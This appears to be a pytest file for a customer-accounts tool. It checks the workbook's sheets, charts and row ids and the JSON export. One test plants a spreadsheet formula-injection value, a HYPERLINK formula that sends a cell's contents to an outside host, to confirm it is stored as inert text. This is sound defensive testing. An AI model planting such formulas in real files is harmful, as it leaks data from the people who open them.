"""The accounts workbook has native charts and traceable rows; the JSON lists the store ids."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from synthetic import archetypes

from bidassist.accounts.assess import assess
from bidassist.accounts.profile import load_profile
from bidassist.reports.accounts_json import assessment_json
from bidassist.reports.accounts_xlsx import write_accounts_xlsx


@pytest.mark.slow
def test_workbook_has_charts_and_ids(tmp_path):
    result = assess(archetypes(), load_profile())
    path = write_accounts_xlsx(result, tmp_path / "accounts.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["Tiers", "Flags", "Payments", "Notes"]
    tiers = wb["Tiers"]
    assert tiers.max_row == 1 + len(result.accounts)
    assert tiers["B2"].value == "稳健医院集团" and tiers["C2"].value == "A"
    assert "orders: o" in tiers["O2"].value
    assert len(tiers._charts) == 1 and len(wb["Payments"]._charts) >= 5
    flags = {(r[0].value, r[2].value) for r in wb["Flags"].iter_rows(min_row=2)}
    assert ("扒皮建设集团", "squeezer") in flags and ("一次性团购公司", "one_off") in flags


@pytest.mark.slow
def test_formula_like_names_stay_text(tmp_path):
    book = archetypes()
    evil = '=HYPERLINK("http://x/?p="&B2,"x")'
    customers = tuple(replace(c, name=evil) if c.id == "healthy" else c for c in book.customers)
    result = assess(replace(book, customers=customers), load_profile())
    wb = load_workbook(write_accounts_xlsx(result, tmp_path / "a.xlsx"))
    cell = wb["Tiers"]["B2"]
    assert cell.data_type == "s" and cell.quotePrefix and cell.value == evil


def test_json_lists_ids_and_round_trips():
    result = assess(archetypes(), load_profile())
    data = json.loads(json.dumps(assessment_json(result), ensure_ascii=False))
    first = data["accounts"][0]
    assert first["key"] == "healthy" and first["tier"] == "A"
    assert first["ids"]["orders"] and first["ids"]["invoices"]
    sq = next(a for a in data["accounts"] if a["key"] == "squeeze")
    assert [f["name"] for f in sq["flags"]] == ["squeezer"] and sq["ids"]["findings"] == ["f1", "f2", "f3"]
    assert data["repeat_model"]["params"]["variant"] == "mbg"
